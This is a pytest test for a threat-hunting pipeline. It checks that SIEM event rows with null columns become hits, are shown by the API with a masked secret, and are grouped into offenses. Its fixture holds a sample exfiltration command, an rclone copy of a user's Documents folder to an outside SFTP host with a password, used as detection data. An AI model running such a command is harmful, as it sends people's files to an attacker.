"""Rows with nulls, through the real client against the stand-in: a console returns NULL for every property an
event lacks (a Sysmon event without a user, a process without a parent, no payload). Such rows become hits like
any other, are shown by the API, enriched as far as they allow, and grouped for offenses; none is lost.

(Malformed, truncated and non-UTF-8 console responses are cases of the fault matrix, test_fault_matrix.py;
hostile values in AQL: tests/app/test_aql_structure.py.)"""
from __future__ import annotations

import json

import pytest

from app import create_app
from app.pipeline.offenses import SETTINGS_KEY

MINUTE = 60_000
COMMAND = 'rclone.exe copy "C:\\Users\\jdoe\\Documents" :sftp:/upload --sftp-host 203.0.113.9 --sftp-pass Xp9'
BASE = {"devicetype": 12, "logsourceid": 65, "qid": 5001, "category": 8110, "eventcount": 1, "EventID": "1",
        "Process Name": "rclone.exe", "CommandLine": COMMAND, "sourceip": "10.40.0.7", "username": "CORP\\jdoe",
        "ParentImage": "C:\\Windows\\explorer.exe", "ProcessGuid": "{guid-0}", "OriginalFileName": "rclone.exe",
        "payload": "Sysmon 1 rclone.exe", "destinationip": "203.0.113.9", "destinationport": 22}
NULLED = ["username", "ParentImage", "ProcessGuid", "OriginalFileName", "payload", "destinationip",
          "destinationport", "ParentCommandLine"]


@pytest.mark.reliability("bad input", "rows with nulls in every optional column, through the real client")
def test_rows_with_nulls_become_hits_shown_and_grouped(start_sim, make_runtime, tmp_path, reliability):
    sim = start_sim(empty=True, latency_ms=20)
    start = 1_790_000_000_000
    events = []
    for i, column in enumerate(NULLED):
        event = dict(BASE, starttime=start + i * 1000, ProcessGuid=f"{{guid-{i}}}")
        event[column] = None
        events.append(event)
    events.append({k: (None if k in NULLED else v) for k, v in BASE.items()} | {"starttime": start + 30_000})
    assert sim.admin("POST", "/sim/events", data="\n".join(json.dumps(e) for e in events))["added"] == len(events)

    runtime = make_runtime(sim)
    summary = runtime.hunt("t1048-002-rclone", start, start + 10 * MINUTE)
    assert summary.status == "ok", summary.errors
    hits = runtime.store.hits.list(limit=100, suppressed=None)
    assert len(hits) == len(events), "every row is a hit, nulls or not"
    assert sum(h["username"] is None for h in hits) == 2 and sum(h["destination_ip"] is None for h in hits) == 2
    assert all(h["enrichment"].get("tool") for h in hits), "enriched as far as the row allows"

    client = create_app(runtime).test_client()
    shown = client.get("/api/hits?suppressed=all&limit=100")
    assert shown.status_code == 200 and len(shown.get_json()["items"]) == len(events)
    details = [client.get(f"/api/hits/{h['id']}") for h in shown.get_json()["items"]]
    assert all(d.status_code == 200 for d in details), "every hit's detail opens, nulls or not"
    assert all("Xp9" not in json.dumps(answer.get_json()) for answer in [shown, *details]), \
        "masked even where other columns are null"

    runtime.store.settings.set(SETTINGS_KEY, {"host": "127.0.0.1", "port": sim.syslog_port, "protocol": "tcp"},
                               actor="test", now_ms=runtime.clock())
    dispatched = runtime.offenses.dispatch()
    assert not dispatched.errors and dispatched.hits_grouped == len(events) and dispatched.sent >= 1
    reliability.update(rows=len(events), hits=len(hits), groups_sent=dispatched.sent)
